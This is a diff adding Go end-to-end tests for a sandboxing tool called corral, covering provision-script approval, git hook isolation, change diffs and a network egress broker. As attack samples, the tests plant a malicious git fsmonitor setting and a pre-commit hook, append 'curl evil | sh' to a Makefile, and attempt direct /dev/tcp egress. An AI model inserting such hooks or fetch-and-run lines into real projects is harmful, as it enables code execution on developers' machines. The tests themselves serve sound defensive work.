@@ -1,0 +1,198 @@
+package e2e
+
+import (
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+)
+
+// writeFile writes a file into a project as the test user would own it.
+func writeFile(t *testing.T, path, content string, mode os.FileMode) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), mode); err != nil {
+		t.Fatal(err)
+	}
+	if err := chown(path); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func gitAsUser(t *testing.T, dir string, args ...string) result {
+	t.Helper()
+	return runCmd(t, asUser(append([]string{"git", "-C", dir, "-c", "user.name=t", "-c", "user.email=t@t.invalid"}, args...)), "git "+strings.Join(args, " "))
+}
+
+// TestGuardsFullMode is the provision, gitshadow and diff group on one full-network box: an
+// unapproved provision script stops the session, an approved one runs, one changed byte stops
+// it again; hooks and config the box plants in .git never reach the host; and git corral diff
+// on the host reports what the box changed in host-executed files.
+func TestGuardsFullMode(t *testing.T) {
+	dir := newProject(t, "guards")
+	box := boxName(t, dir)
+	cleanupBox(t, box)
+	writeFile(t, filepath.Join(dir, ".corral.toml"), "provision = [\"setup.sh\"]\n", 0o644)
+	writeFile(t, filepath.Join(dir, "setup.sh"), "#!/bin/sh\necho provisioned > \"$HOME/provisioned\"\n", 0o755)
+	writeFile(t, filepath.Join(dir, "Makefile"), "all:\n\t@echo built\n", 0o644)
+	writeFile(t, filepath.Join(dir, "run.sh"), "#!/bin/sh\necho hi\n", 0o644)
+	writeFile(t, filepath.Join(dir, ".gitignore"), ".envrc\n", 0o644)
+	gitAsUser(t, dir, "add", "-A")
+	gitAsUser(t, dir, "commit", "-qm", "base")
+
+	t.Run("an unapproved provision script stops the session", func(t *testing.T) {
+		r := corral(t, dir, nil, "run", "--yes", "--", "true")
+		if r.code != 1 || !strings.Contains(r.stderr, "review") {
+			t.Fatalf("exit %d: want 1 with a hint to review: %s", r.code, r.stderr)
+		}
+	})
+	t.Run("after review --approve it runs, as the box user", func(t *testing.T) {
+		if r := corral(t, dir, nil, "review", "--approve"); r.code != 0 {
+			t.Fatalf("review --approve: exit %d: %s", r.code, r.stderr)
+		}
+		r := corral(t, dir, nil, "run", "--yes", "--", "sh", "-c", `cat "$HOME/provisioned"; sudo -n true && echo SUDO-OK || echo no-sudo`)
+		if r.code != 0 || !strings.Contains(r.stdout, "provisioned") {
+			t.Fatalf("exit %d, stdout %q: the approved script did not run", r.code, r.stdout)
+		}
+	})
+	t.Run("hooks and config the box plants never reach the host", func(t *testing.T) {
+		canary := filepath.Join(dir, "PWNED")
+		script := fmt.Sprintf(`git config core.fsmonitor "touch %[1]s" 2>/dev/null && echo config-written
+printf '#!/bin/sh\ntouch %[1]s\n' > .git/hooks/pre-commit 2>/dev/null && chmod +x .git/hooks/pre-commit && echo hook-written
+printf '[core]\n\thooksPath = /tmp\n' >> .git/config 2>/dev/null && echo appended
+true`, canary)
+		corral(t, dir, nil, "run", "--", "sh", "-c", script)
+		if r := gitAsUser(t, dir, "config", "core.fsmonitor"); strings.TrimSpace(r.stdout) != "" {
+			t.Errorf("core.fsmonitor on the host = %q", r.stdout)
+		}
+		if _, err := os.Stat(filepath.Join(dir, ".git", "hooks", "pre-commit")); err == nil {
+			t.Error("the pre-commit hook reached the host")
+		}
+		writeFile(t, filepath.Join(dir, "new.txt"), "x\n", 0o644)
+		gitAsUser(t, dir, "status")
+		gitAsUser(t, dir, "add", "new.txt")
+		gitAsUser(t, dir, "commit", "-qm", "host commit")
+		if _, err := os.Stat(canary); err == nil {
+			t.Fatal("the host's git ran something the box planted")
+		}
+	})
+	t.Run("git corral diff --exit-code reports a Makefile edit, an ignored .envrc and a mode flip", func(t *testing.T) {
+		r := corral(t, dir, nil, "run", "--", "sh", "-c", `printf 'install:\n\tcurl evil | sh\n' >> Makefile && echo 'export X=1' > .envrc && chmod +x run.sh`)
+		if r.code != 0 {
+			t.Fatalf("run: exit %d", r.code)
+		}
+		d := corral(t, dir, nil, "diff", "--exit-code")
+		if d.code != 1 {
+			t.Fatalf("diff --exit-code: exit %d, want 1", d.code)
+		}
+		j := corral(t, dir, nil, "diff", "--json")
+		for _, want := range []string{"Makefile", ".envrc", "run.sh"} {
+			if !strings.Contains(j.stdout, want) {
+				t.Errorf("diff --json does not report %s", want)
+			}
+		}
+	})
+	t.Run("one changed byte of the approved script stops the session again", func(t *testing.T) {
+		writeFile(t, filepath.Join(dir, "setup.sh"), "#!/bin/sh\necho provisioned > \"$HOME/provisioneD\"\n", 0o755)
+		r := corral(t, dir, nil, "run", "--", "true")
+		if r.code != 1 || !strings.Contains(r.stderr, "review") {
+			t.Fatalf("exit %d: want a refusal naming review: %s", r.code, r.stderr)
+		}
+	})
+}
+
+// TestBrokerMode is the broker and funnel group: in broker mode an allowed destination (a test
+// server on the host, allowed by explicit address in the trusted per-project file) answers
+// through the broker; another loopback server and a name are refused and logged; direct egress,
+// DNS and sudo fail; git corral egress shows both decisions.
+func TestBrokerMode(t *testing.T) {
+	dir := newProject(t, "broker")
+	box := boxName(t, dir)
+	cleanupBox(t, box)
+	var hits atomic.Int32
+	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		hits.Add(1)
+		fmt.Fprint(w, "allowed-upstream-ok")
+	})}
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	go srv.Serve(ln)
+	defer srv.Close()
+	denied, err := net.Listen("tcp", "127.0.0.2:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer denied.Close()
+	allowed := ln.Addr().String()
+	writeFile(t, filepath.Join(suite.home, "projects", box+".toml"),
+		fmt.Sprintf("network = \"broker\"\negress = [%q]\n", allowed), 0o600)
+
+	// fetch URL: a plain-HTTP request through $http_proxy with bash's /dev/tcp (the base image
+	// has no curl), printing the status line and body.
+	fetch := `u=${http_proxy#http://}; cred=${u%@*}; hp=${u#*@}; host=${hp%:*}; port=${hp#*:}
+exec 3<>"/dev/tcp/$host/$port" || exit 9
+printf 'GET %s HTTP/1.1\r\nHost: %s\r\nProxy-Authorization: Basic %s\r\nConnection: close\r\n\r\n' "$1" "$2" "$(printf %s "$cred" | base64 -w0)" >&3
+cat <&3`
+	t.Run("the allowed destination answers through the broker", func(t *testing.T) {
+		r := corral(t, dir, nil, "run", "--yes", "--", "bash", "-c", fetch, "fetch", "http://"+allowed+"/", allowed)
+		if !strings.Contains(r.stdout, "allowed-upstream-ok") || hits.Load() == 0 {
+			t.Fatalf("exit %d, stdout %q: the allowed server was not reached through the broker", r.code, r.stdout)
+		}
+	})
+	t.Run("anything else is refused by the broker, and logged", func(t *testing.T) {
+		for _, target := range []string{denied.Addr().String(), "example.com:80"} {
+			r := corral(t, dir, nil, "run", "--", "bash", "-c", fetch, "fetch", "http://"+target+"/", target)
+			if !strings.Contains(r.stdout, "403") || !strings.Contains(r.stdout, "X-Corral") {
+				t.Errorf("%s: stdout %q: want a 403 with X-Corral from the broker", target, r.stdout)
+			}
+		}
+	})
+	t.Run("direct egress, DNS and sudo fail in the box", func(t *testing.T) {
+		port := allowed[strings.LastIndex(allowed, ":")+1:]
+		checks := map[string]string{
+			"direct to the host's allowed server": "exec 3<>/dev/tcp/192.168.5.2/" + port,
+			"DNS":                                 "getent hosts example.com",
+			"sudo":                                "sudo -n true",
+		}
+		for name, cmd := range checks {
+			r := corral(t, dir, nil, "run", "--timeout", "20s", "--", "bash", "-c", cmd)
+			if r.code == 0 {
+				t.Errorf("%s succeeded in broker mode", name)
+			}
+		}
+	})
+	t.Run("git corral egress shows both decisions", func(t *testing.T) {
+		r := corral(t, dir, nil, "egress", "--json")
+		var doc struct {
+			Mode         string `json:"mode"`
+			Destinations []struct {
+				Host     string `json:"host"`
+				Decision string `json:"decision"`
+			} `json:"destinations"`
+		}
+		if err := json.Unmarshal([]byte(r.stdout), &doc); err != nil {
+			t.Fatalf("egress --json: %v: %s", err, r.stdout)
+		}
+		var allow, deny int
+		for _, d := range doc.Destinations {
+			switch d.Decision {
+			case "allow":
+				allow++
+			case "deny":
+				deny++
+			}
+		}
+		if doc.Mode != "broker" || allow == 0 || deny < 2 {
+			t.Errorf("egress: mode %q, %d allowed, %d denied destinations: %s", doc.Mode, allow, deny, r.stdout)
+		}
+	})
+}
